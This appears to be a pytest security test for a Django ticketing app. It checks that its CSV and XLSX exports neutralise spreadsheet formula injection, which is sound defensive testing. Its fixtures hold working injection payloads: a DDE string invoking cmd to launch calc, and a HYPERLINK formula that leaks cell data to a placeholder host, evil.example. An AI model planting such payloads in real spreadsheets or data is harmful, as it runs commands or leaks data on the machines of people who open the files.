"""Exports hand customers' text to spreadsheet programs: it must arrive as inert text.

Every page is asked for its CSV and XLSX export (the pages are enumerated from the URL resolver, so
a new list is covered without editing this test) while the database holds a formula-shaped request
title, a ``=HYPERLINK`` full name, a formula-shaped organisation, contact and team name, and a title
with an ESC character. Every export must answer (no 500), hold no formula cell, and start no text
cell with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return.
"""

import csv
import io
import zipfile
from collections.abc import Callable
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from sasms.accounts import services as account_services
from sasms.accounts.models import Contact, Organisation, TeamKind, User
from sasms.accounts.roles import Role
from sasms.core import exports
from sasms.tickets import services as ticket_services
from tests.security.test_isolation_matrix import _fill, page_routes

pytestmark = pytest.mark.django_db

TITLE = "=cmd|' /C calc'!A0"
NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
ESC_TITLE = "Fan \x1b[31mfailure"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
XLSX = exports.XLSX_CONTENT_TYPE


def _body(response: Any) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else bytes(response.content)


def _csv_cells(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def _xlsx_cells(body: bytes) -> list[list[Any]]:
    archive = zipfile.ZipFile(io.BytesIO(body))
    for name in archive.namelist():
        if name.startswith("xl/worksheets/"):
            assert b"<f>" not in archive.read(name), f"{name} holds a formula cell"
    workbook = load_workbook(io.BytesIO(body))
    return [list(row) for sheet in workbook.worksheets for row in sheet.iter_rows(values_only=True)]


def _assert_inert(cells: list[list[Any]], url: str) -> None:
    for row in cells:
        for value in row:
            if not isinstance(value, str):
                continue
            assert "\x1b" not in value, f"{url}: control character in {value!r}"
            if value.startswith(TRIGGERS):
                assert exports.PLAIN_NUMBER.fullmatch(value), f"{url}: live formula text {value!r}"


def _export(client: Client, url: str, kind: str) -> list[list[Any]] | None:
    """The export's cells, or ``None`` when the page has no export of this kind for this user."""
    response = client.get(url, {"export": kind})
    assert response.status_code < 500, f"{url}?export={kind} answered {response.status_code}"
    if response.status_code != 200:
        return None
    content_type = response["Content-Type"]
    body = _body(response)
    if kind == "csv" and content_type.startswith("text/csv"):
        cells = _csv_cells(body)
    elif kind == "xlsx" and content_type == XLSX:
        cells = _xlsx_cells(body)
    else:
        return None
    _assert_inert(cells, f"{url}?export={kind}")
    return cells


def _flat(cells: list[list[Any]] | None) -> list[Any]:
    assert cells is not None
    return [value for row in cells for value in row]


@pytest.fixture
def poisoned(
    provider: Organisation, customer_a: Organisation, make_user: Callable[..., User]
) -> dict[str, Any]:
    agent = make_user(Role.AGENT, language="en")
    customer = make_user(Role.CUSTOMER_ADMIN, organisation=customer_a, language="en", full_name=NAME)
    account_services.create_organisation(
        actor=None, name="@SUM(1+1)*cmd|' /C calc'!A0", code="evil", kind="customer"
    )
    account_services.create_team(actor=None, name="+team|calc", kind=TeamKind.values[0])
    contact = Contact.objects.create(organisation=customer_a, name="-2+3+cmd|' /C calc'!A0")
    # Machine intake and older rows reach the database without a form: the export must cope.
    ticket_services.create_ticket(actor=agent, organisation=customer_a, requester=contact, title=TITLE)
    ticket_services.create_ticket(actor=agent, organisation=customer_a, title=ESC_TITLE)
    return {"agent": agent, "customer": customer}


def _client(user: User) -> Client:
    client = Client()
    client.force_login(user, backend="django.contrib.auth.backends.ModelBackend")
    return client


def test_every_export_is_inert_for_staff(poisoned: dict[str, Any], make_user: Callable[..., User]) -> None:
    admin = _client(make_user(Role.ADMINISTRATOR, language="en"))
    agent = _client(poisoned["agent"])
    exported = 0
    for route in page_routes():
        if route.params:
            continue
        url = _fill(route.template, {})
        for client in (admin, agent):
            for kind in ("csv", "xlsx"):
                exported += _export(client, url, kind) is not None
    assert exported > 40  # the walk found the project's list exports


def test_every_export_is_inert_for_the_customer(poisoned: dict[str, Any]) -> None:
    client = _client(poisoned["customer"])
    exported = 0
    for route in page_routes():
        if route.params:
            continue
        url = _fill(route.template, {})
        for kind in ("csv", "xlsx"):
            exported += _export(client, url, kind) is not None
    assert exported >= 4  # the portal's own lists at least


def test_queue_export_keeps_the_title_as_quoted_text(poisoned: dict[str, Any]) -> None:
    client = _client(poisoned["agent"])
    url = reverse("tickets:queue")
    for kind in ("csv", "xlsx"):
        values = _flat(_export(client, url, kind))
        assert "'" + TITLE in values
        assert "Fan [31mfailure" in values  # ESC dropped, the rest of the title kept


def test_user_export_keeps_the_full_name_as_quoted_text(
    poisoned: dict[str, Any], make_user: Callable[..., User]
) -> None:
    client = _client(make_user(Role.ADMINISTRATOR, language="en"))
    for kind in ("csv", "xlsx"):
        assert "'" + NAME in _flat(_export(client, reverse("accounts:user_list"), kind))


def test_portal_export_keeps_the_title_as_quoted_text(poisoned: dict[str, Any]) -> None:
    client = _client(poisoned["customer"])
    for kind in ("csv", "xlsx"):
        values = _flat(_export(client, reverse("portal:request_list"), kind))
        assert "'" + TITLE in values
        assert "Fan [31mfailure" in values


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+86 10 1234", "'+86 10 1234"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tindented", "'\tindented"),
        ("\r=1", "'\r=1"),
        ("-12.5", "-12.5"),  # a plain number cannot run
        ("+3", "+3"),
        ("a=b", "a=b"),
        ("bell\x07 and nul\x00", "bell and nul"),
        ("\x1b=1", "'=1"),  # cleaned first, then quoted
    ],
)
def test_neutralise(value: str, expected: str) -> None:
    assert exports.neutralise(value) == expected


def test_numbers_and_dates_stay_typed_in_xlsx() -> None:
    body = exports.xlsx_bytes([("t", [["=A1", 3, -2.5, None]])])
    assert _xlsx_cells(body) == [["'=A1", 3, -2.5, None]]
